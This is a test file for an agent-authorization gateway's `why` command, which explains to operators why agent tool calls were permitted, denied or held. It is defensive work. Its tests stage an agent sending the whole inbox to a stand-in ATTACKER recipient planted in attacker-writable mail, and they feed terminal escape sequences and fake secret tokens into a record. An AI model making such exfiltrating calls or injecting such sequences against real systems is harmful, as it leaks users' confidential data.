/**
 * @module
 * `unbearer why` on a real installation: every kind of refusal explained, every remedy that it computes tried, and nothing
 * of it anywhere that an agent can see.
 *
 * Broken once on purpose, and the test that fell:
 *
 * | broken on purpose                                          | fell                                   |
 * | ---------------------------------------------------------- | -------------------------------------- |
 * | `explain/shown.ts` nothing is elided                       | elides credentials and escapes …       |
 * | `explain/remedies.ts` says `permit` without judging        | a remedy that is not enough says so …  |
 * | `core/control-actions.ts` `entry.why` is of the group open | refuses every key that is not …        |
 */
import { writeFileSync } from 'node:fs'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { parseStrictYaml } from '../../src/config/strict-yaml.ts'
import { isJsonObject, type Json } from '../../src/index.ts'
import { connectAgent, type Agent, type Sent } from '../support/agent.ts'
import { createInstallation, type Installation, type Name } from '../support/installation.ts'
import { startRecordingUpstream, type RecordingUpstream } from '../support/recording-upstream.ts'
import { ATTACKER } from '../support/tools.ts'
import { unbearer } from '../support/run-cli.ts'

let upstream: RecordingUpstream
let installation: Installation
const agents: Agent[] = []
const wire: Sent[] = []

beforeAll(async () => {
  upstream = await startRecordingUpstream()
  installation = await createInstallation({
    upstream,
    store: 'sqlite',
    grant: {
      operations: [
        { tool: 'desk/*', effects: ['read', 'write'] },
        { tool: 'desk/delete_record', effects: ['delete'] },
        { tool: 'desk/send', effects: ['send'] },
        { tool: 'desk/pay', effects: ['write', 'spend'], where: { amount: { range: { max: 50 } } } },
      ],
      budgets: [{ id: 'money', limit: 60, amount: 'amount', effects: ['spend'] }],
    },
  })
})

afterAll(async () => {
  await Promise.all(agents.map(async (agent) => agent.close()))
  await installation.close()
  await upstream.close()
})

async function work(purpose: string): Promise<Agent> {
  const { txn } = await installation.openTask(purpose)
  const agent = await connectAgent({ origin: installation.origin, key: installation.keys.agent, txn, wire })
  agents.push(agent)
  return agent
}

interface Explained {
  readonly sentence: string
  readonly evidence: string
  readonly findings: readonly { stage: string; outcome: string; reason?: string; said: string }[]
  readonly arguments: readonly { path: string; role: string; value: string; origin: string; said: string }[]
  readonly grant: readonly { id: string; covers: string; budgets: readonly { left: number }[] }[]
  readonly policies: readonly { outcome: string; current: boolean; policies: readonly { id: string; text: string }[] }[]
  readonly mode: { readonly mode: string }
  readonly ticket: { readonly id: string } | null
  readonly remedies: readonly Remedy[]
  readonly together: { readonly decision: string; readonly of: readonly number[] } | null
  readonly unreplayed: readonly string[]
}

interface Remedy {
  readonly kind: string
  readonly for: readonly string[]
  readonly what: string
  readonly how: string
  readonly gives: { readonly decision: string; readonly reason?: string } | null
}

async function why(id: string | undefined): Promise<Explained> {
  const answer: unknown = await installation.control('operator', 'entry.why', { id: id ?? '' })
  const explained: Explained = JSON.parse(JSON.stringify(answer))
  return explained
}

const idOf = (made: Json): string => (isJsonObject(made) && typeof made['id'] === 'string' ? made['id'] : '')

const remedyOf = ({ remedies }: Explained, kind: string): Remedy => {
  const found = remedies.find((remedy) => remedy.kind === kind)
  if (found === undefined) throw new Error(`no remedy of kind ${kind} in ${JSON.stringify(remedies)}`)
  return found
}

describe('why', () => {
  it('explains a permit: five findings, each marked', async () => {
    const agent = await work('Read record r1')
    await agent.call('read_record', { id: 'r1' })
    const entry = (await installation.entries()).findLast(({ kind }) => kind === 'decision')
    const explained = await why(entry?.id)
    expect(explained.sentence).toMatch(/^permitted: "agent" calls `desk\/read_record` for "user\/alice" \(read\), at /)
    expect(explained.findings.map(({ stage }) => stage)).toEqual(['identity', 'intent', 'scope', 'context', 'anomaly'])
    expect(explained.findings[0]).toMatchObject({ outcome: 'pass' })
    expect(explained.remedies).toEqual([])
    expect(explained.unreplayed).toEqual([])
    expect(explained.policies[0]?.current).toBe(true)
    expect(explained.arguments[0]).toMatchObject({ path: '/id', role: 'selector', value: '"r1"', origin: 'purpose' })
  })

  it('names the line that the grant lacks, and the line works', async () => {
    const agent = await work('Update record r1 and send it to bob@example.org')
    const narrow = await installation.control('operator', 'grant.create', {
      grant: { principal: 'carol', actor: 'other', operations: [{ tool: 'desk/read_record', effects: ['read'] }] },
    })
    const id = idOf(narrow)
    const { composed } = installation.serving
    const task = await composed.services.tasks.open({
      purpose: 'Delete record r2',
      principal: 'carol',
      actor: 'other',
      openedBy: installation.enrolled.host,
      grant: id,
    })
    const other = await connectAgent({ origin: installation.origin, key: installation.keys.other, txn: task.txn, wire })
    agents.push(other, agent)
    const { entry, reason } = await other.call('write_record', { id: 'r2', text: 'x' }, 'write: update record r2')
    expect(reason).toBe('scope.operation')
    const explained = await why(entry)
    expect(explained.sentence).toContain('names no operation for `desk/write_record`')
    expect(explained.grant).toMatchObject([{ id, covers: 'operation' }])
    const remedy = remedyOf(explained, 'grant')
    expect(remedy.how).toBe('- { tool: desk/write_record, effects: [write], where: { id: { in: ["r2"] } } }')
    expect(remedy.gives).toEqual({ decision: 'permit' })

    const operations: unknown = parseStrictYaml(remedy.how)
    const wider: Json = JSON.parse(JSON.stringify({ principal: 'carol', actor: 'other', operations }))
    const granted = await installation.control('operator', 'grant.create', { grant: wider })
    const next = await composed.services.tasks.open({
      purpose: 'Update record r2',
      principal: 'carol',
      actor: 'other',
      openedBy: installation.enrolled.host,
      grant: idOf(granted),
    })
    const again = await connectAgent({ origin: installation.origin, key: installation.keys.other, txn: next.txn, wire })
    agents.push(again)
    expect(await again.call('write_record', { id: 'r2', text: 'x' }, 'write: update record r2')).toMatchObject({
      ok: true,
    })
  })

  it('names the bound and the budget', async () => {
    const agent = await work('Pay 80 to bob@example.org, pay 40 to bob@example.org')
    const bound = await agent.call('pay', { to: 'bob@example.org', amount: 80 }, 'spend: pay 80 to bob@example.org')
    expect(bound.reason).toBe('scope.argument')
    const explained = await why(bound.entry)
    expect(explained.sentence).toContain('bounds `amount` by {"range":{"max":50}}, and it is 80')
    const remedy = remedyOf(explained, 'grant')
    expect(remedy.how).toContain('.where: { amount: {"range":{"max":80}} }')
    // The bound is not all: the budget would stop it next, and the remedy alone says so.
    expect(remedy.gives).toEqual({ decision: 'deny', reason: 'scope.budget' })

    expect(
      await agent.call('pay', { to: 'bob@example.org', amount: 40 }, 'spend: pay 40 to bob@example.org'),
    ).toMatchObject({ ok: true })
    const short = await agent.call('pay', { to: 'bob@example.org', amount: 40 }, 'spend: pay 40 to bob@example.org')
    expect(short.reason).toBe('scope.budget')
    const budget = await why(short.entry)
    expect(budget.sentence).toContain('is 60 per grant: 40 is used and this asks for 40')
    expect(budget.grant[0]?.budgets).toMatchObject([{ left: 20 }])
    expect(remedyOf(budget, 'grant')).toMatchObject({ gives: { decision: 'permit' } })
  })

  it('writes the intent that would have done', async () => {
    const agent = await work('Update record r1')
    const { entry, reason } = await agent.call('write_record', { id: 'r1', text: 'x' }, 'read: look at record r1')
    expect(reason).toBe('intent.effect-mismatch')
    const remedy = remedyOf(await why(entry), 'intent')
    expect(remedy.gives).toEqual({ decision: 'permit' })
    const text = /unbearer_intent: "(.+)"$/.exec(remedy.how)?.[1] ?? ''
    expect(await agent.call('write_record', { id: 'r1', text: 'x' }, text)).toMatchObject({ ok: true })
  })

  it('tells where a planted recipient came from, and what a purpose or a label would have changed', async () => {
    const agent = await work('Read the inbox')
    await agent.call('read_inbox', {}, 'read: the user asked what is in the inbox')
    const { entry, reason } = await agent.call('send', { to: ATTACKER, body: 'all' }, `send: send to ${ATTACKER}`)
    expect(reason).toBe('context.exfiltration')
    const explained = await why(entry)
    expect(explained.arguments).toContainEqual(
      expect.objectContaining({
        path: '/to',
        role: 'recipient',
        value: `"${ATTACKER}"`,
        origin: 'observed',
        said: 'found in what "desk/read_inbox" returned: attacker-writable, confidential',
      }),
    )
    expect(explained.arguments.find(({ path }) => path === '/body')?.said).toContain(
      'takes the join of everything read',
    )
    expect(remedyOf(explained, 'purpose')).toMatchObject({ gives: { decision: 'permit' } })
    const labels = explained.remedies.filter(({ kind }) => kind === 'manifest')
    expect(labels.map(({ how }) => how)).toContain('manifest of desk: tools.read_inbox.output.trust: internal')
    // Records that only we write would still not send confidential things to somebody whom nobody named.
    expect(labels[0]?.gives?.decision).not.toBe('deny')
    // A person lifts what policy holds, and never what the context verifier refuses.
    expect(remedyOf(explained, 'approval').gives).toEqual({ decision: 'deny', reason: 'context.exfiltration' })
  })

  it('names the approval, by its ticket, and finds the entry by it', async () => {
    const agent = await work('Delete record r2')
    const { ticket, entry } = await agent.call('delete_record', { id: 'r2' }, 'delete: delete record r2')
    const explained = await why(ticket)
    expect(explained).toMatchObject({ entry: { id: entry }, ticket: { id: ticket, status: 'pending' } })
    expect(explained.policies).toMatchObject([{ outcome: 'challenge', policies: [{ id: 'approve-delete' }] }])
    expect(explained.policies[0]?.policies[0]?.text).toContain('@challenge("deletes")')
    expect(remedyOf(explained, 'approval')).toMatchObject({
      how: `unbearer approvals approve ${ticket}`,
      gives: { decision: 'permit' },
    })
    await installation.answer(ticket ?? '', 'approved')
    expect(await agent.call('delete_record', { id: 'r2' }, 'delete: delete record r2')).toMatchObject({ ok: true })
  })

  it('a remedy that is not enough says so, and what all together give', async () => {
    const agent = await work('Look at record r7')
    const { entry, reason } = await agent.call('delete_record', { id: 'r9' }, 'read: look at record r7')
    expect(reason).toBe('intent.effect-mismatch')
    const explained = await why(entry)
    expect(remedyOf(explained, 'intent').gives).toMatchObject({ decision: 'challenge' })
    expect(explained.together).toMatchObject({ decision: 'permit' })
    expect(JSON.stringify(explained.remedies)).not.toMatch(/turn it off|observe/)
  })

  it('finds an unknown tool and a fault, and says what cannot be decided again', async () => {
    const agent = await work('Format the disk')
    const { entry, reason } = await agent.call('format_disk', {})
    expect(reason).toBe('scope.unknown-tool')
    const explained = await why(entry)
    expect(remedyOf(explained, 'manifest')).toMatchObject({ gives: null })
    expect(remedyOf(explained, 'manifest').how).toContain('unbearer tools scan desk')
  })

  it('finds the same entry by a prefix of at least 8 characters, by its outcome, and nothing by less', async () => {
    const entries = await installation.entries()
    const outcome = entries.findLast(({ kind }) => kind === 'outcome')
    const of = outcome?.kind === 'outcome' ? outcome.of : ''
    expect(await why(of.slice(0, 8))).toMatchObject({ entry: { id: of } })
    expect(await why(outcome?.id)).toMatchObject({ entry: { id: of } })
    await expect(why(of.slice(0, 7))).rejects.toThrow('at least 8 characters')
    await expect(why('aaaaaaaaaaaa')).rejects.toThrow('there is no entry')
    const act = entries.find(({ kind }) => kind === 'control')
    await expect(why(act?.id)).rejects.toThrow('no decision')
  })

  it('elides credentials and escapes what paints over itself', async () => {
    const agent = await work('Update record r1')
    const secret = 'sk-live-0123456789abcdef'
    const text = `x\u202e\u001b[2J token=${secret} eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.abc`
    const { entry } = await agent.call('write_record', { id: 'r1', text }, 'read: look at record r1')
    const explained = await why(entry)
    const said = JSON.stringify(explained)
    expect(said).not.toContain(secret)
    expect(said).not.toContain('eyJhbGci')
    expect(said).not.toMatch(/[\p{Cc}\p{Cf}]/u)
    expect(explained.arguments.find(({ path }) => path === '/text')?.value).toContain('x\\u{202e}\\u{001b}[2J')
  })

  it('tells what the leaf tells where the evidence is gone', async () => {
    const agent = await work('Read record r1')
    const { entry } = await agent.call('write_record', { id: 'r1' }, 'read: look at record r1')
    const { store } = installation.serving.composed
    const kept = store.evidence.bind(store)
    store.evidence = async (id) => (id === entry ? undefined : kept(id))
    try {
      const explained = await why(entry)
      expect(explained).toMatchObject({ evidence: 'gone', entry: { reason: 'intent.effect-mismatch' } })
      expect(explained.sentence).toMatch(/^denied at .+ \(intent\.effect-mismatch\): .+ was erased or has expired/)
      expect(explained.arguments).toBeUndefined()
    } finally {
      store.evidence = kept
    }
  })

  it('says the same on the command line, beside the server and without it', async () => {
    const agent = await work('Delete record r2')
    const { entry } = await agent.call('delete_record', { id: 'r5' }, 'delete: delete record r5')
    const asked = ['why', entry ?? '', '--config', `${installation.dir}/unbearer.yaml`]
    const keys = ['--key', `${installation.dir}/keys/operator.jwk`]
    writeFileSync(`${installation.dir}/keys/operator.jwk`, JSON.stringify(installation.jwks.operator), { mode: 0o600 })
    const { exit, out, err } = await unbearer(...asked, ...keys, '--server', installation.origin)
    expect([exit, err]).toEqual([0, ''])
    expect(out).toMatch(/^held for a person: "agent" calls `desk\/delete_record`/)
    expect(out).toContain('✓ identity pass: proved by signature over the whole body')
    expect(out).toContain('@id("approve-delete")')
    expect(out).toContain('→ would then be: permit')
    let local = ''
    await installation.restart(async () => {
      local = (await unbearer(...asked, ...keys)).out
    })
    expect(local).toBe(out)
  })

  it('refuses every key that is not an operator’s', async () => {
    const entry = (await installation.entries()).find(({ kind }) => kind === 'decision')
    for (const name of ['agent', 'other', 'host', 'pep', 'approver'] satisfies readonly Name[]) {
      await expect(installation.control(name, 'entry.why', { id: entry?.id ?? '' })).rejects.toMatchObject({
        reason: 'identity.key-role',
      })
    }
  })

  it('puts nothing of it into what agents receive', async () => {
    const agent = await work('Read the inbox')
    await agent.call('read_inbox', {}, 'read: the user asked what is in the inbox')
    const saw = await agent.call('send', { to: ATTACKER, body: 'all' }, `send: send to ${ATTACKER}`)
    const explained = await why(saw.entry)
    const received = JSON.stringify(saw.whole)
    const told = [
      explained.sentence,
      ...explained.findings.map(({ said }) => said),
      ...explained.arguments.map(({ said }) => said),
      ...explained.remedies.flatMap(({ what, how }) => [what, how]),
      ...explained.policies.flatMap(({ policies }) => policies.map(({ id }) => id)),
      installation.grant.id,
    ]
    expect(told.length).toBeGreaterThan(10)
    for (const text of told) expect(received).not.toContain(text)
  })
})
